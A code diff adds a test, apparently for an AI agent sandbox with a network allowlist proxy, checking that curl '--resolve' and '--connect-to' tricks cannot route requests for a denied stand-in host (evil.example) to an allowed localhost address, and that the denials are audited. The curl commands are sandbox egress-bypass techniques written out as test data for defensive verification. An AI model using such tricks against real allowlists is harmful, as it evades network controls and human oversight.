@@ -151,3 +151,42 @@ def test_near_limit_arguments_and_environment_reach_the_agent_intact(etc_fs_ws, 
                   env=base_env(tmp_path, ANTHROPIC_API_KEY=key))
     assert p.returncode == 0, p.stderr[-500:]
     assert p.stdout.split() == [n, digest, keylen]
+
+
+def test_name_to_address_pairing_tricks_do_not_reach_an_allowed_address(etc_fs_ws, tmp_path):
+    """ATTACKS #3: curl's --resolve / --connect-to pair a denied name with an allowed address
+    (`localhost:P` is allowed). Through the proxy the sidecar decides on the name (403); a tunnel
+    to the allowed name carrying a plain request for the other name is refused (http_in_tunnel);
+    with the proxy bypassed there is no route. Controls: outside, the same --resolve request
+    reaches the upstream; inside, the allowed name itself works."""
+    up = Upstream()
+    try:
+        port = up.port
+        tag = secrets.token_hex(3)
+        ctl = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--noproxy", "*",
+                              "--resolve", f"evil.example:{port}:127.0.0.1", f"http://evil.example:{port}/c-{tag}"],
+                             capture_output=True, text=True)
+        assert ctl.stdout == "200" and [h for h in up.hits if f"/c-{tag}".encode() in h]  # control
+        up.reset()
+        w = "-s -o /dev/null -w '%{http_code} '"
+        script = "; ".join([
+            f"curl {w} http://localhost:{port}/ok-{tag}",
+            f"curl {w} --resolve evil.example:{port}:127.0.0.1 http://evil.example:{port}/r1-{tag}",
+            f"curl {w} --connect-to ::localhost:{port} http://evil.example/r2-{tag}",
+            f"curl {w} --noproxy '*' --resolve evil.example:{port}:127.0.0.1 http://evil.example:{port}/r3-{tag}",
+            f"curl -s -o /dev/null -w '%{{http_connect}} ' -p --resolve evil.example:{port}:127.0.0.1 http://evil.example:{port}/r4-{tag}",
+        ])
+        p = run_firma(["run", "--allow-host", f"localhost:{port}", "--", "sh", "-c", script],
+                      cwd=etc_fs_ws, env=base_env(tmp_path))
+        assert p.stdout.split() == ["200", "403", "000", "000", "403"], p.stdout + p.stderr
+        assert [h for h in up.hits if f"/ok-{tag}".encode() in h]  # the allowed name works
+        assert [h for h in up.hits if tag.encode() in h and b"/ok-" not in h] == []  # nothing else arrived
+        with open(tmp_path / "state" / "audit.jsonl") as f:
+            denied = [(e["resource"], e["deny_reason"]) for e in map(json.loads, f) if e["decision"] != 1]
+        assert denied == [
+            (f"http://evil.example:{port}/r1-{tag}", "host_not_allowed"),
+            (f"localhost:{port}", "http_in_tunnel"),
+            (f"evil.example:{port}", "host_not_allowed"),
+        ]
+    finally:
+        up.close()
